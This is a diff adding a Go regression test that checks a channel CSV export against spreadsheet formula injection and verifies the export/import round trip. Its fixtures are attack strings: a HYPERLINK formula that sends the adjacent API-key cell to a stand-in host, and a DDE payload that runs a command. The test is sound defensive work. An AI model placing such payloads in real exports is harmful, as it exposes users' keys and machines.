@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/csv"
 	"fmt"
 	"io"
 	"net/http"
@@ -271,5 +272,46 @@ func TestUpstreamEchoesKeyInError(t *testing.T) {
 	leaks("the channel test's answer", test)
 	if got, _ := redactBytes([]byte("x "+tok+" y"), keys, tok); strings.Contains(string(got), tok) {
 		t.Errorf("the client's token is not masked: %s", got)
+	}
+}
+
+// TestCSVExportFormulaInjection: a channel named =HYPERLINK("…"&C2,…) was
+// exported as is, beside the full-key column: opening the backup in a
+// spreadsheet ran it.
+func TestCSVExportFormulaInjection(t *testing.T) {
+	e := newTestEnv(t)
+	tok := e.login()
+	names := []string{`=HYPERLINK("http://x.example/?k="&C2,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+		"'=already quoted", "''+twice", "'plain quote"}
+	for i, n := range names {
+		e.addChannel(Channel{Name: n, URL: "http://up.example", APIKeys: []string{fmt.Sprintf("=key-%d-0123456789", i)},
+			Priority: -i, Models: []string{"-m", "@n"}, ModelRedirects: map[string]string{"+a": "=b"}})
+	}
+	before := csvChannels(e)
+	_, b := csvExport(e, tok)
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for i, cell := range rec {
+			if formulaStart(cell) {
+				t.Errorf("exported cell %s = %q starts a formula", csvColumns[i], cell)
+			}
+		}
+	}
+	// Export → import changes nothing, here and into a fresh ccload.
+	if st, a := csvImportText(e, tok, string(b)); st != 200 || a.Unchanged != len(names) {
+		t.Fatalf("re-import: %d %+v", st, a)
+	}
+	e2 := newTestEnv(t)
+	if st, a := csvImportText(e2, e2.login(), string(b)); st != 200 || a.Created != len(names) {
+		t.Fatalf("import into a fresh ccload: %d %+v", st, a)
+	}
+	after := csvChannels(e2)
+	for i := range before {
+		if !sameChannel(before[i], after[i]) {
+			t.Errorf("round trip changed channel %d:\n got %+v\nwant %+v", i, after[i], before[i])
+		}
 	}
 }
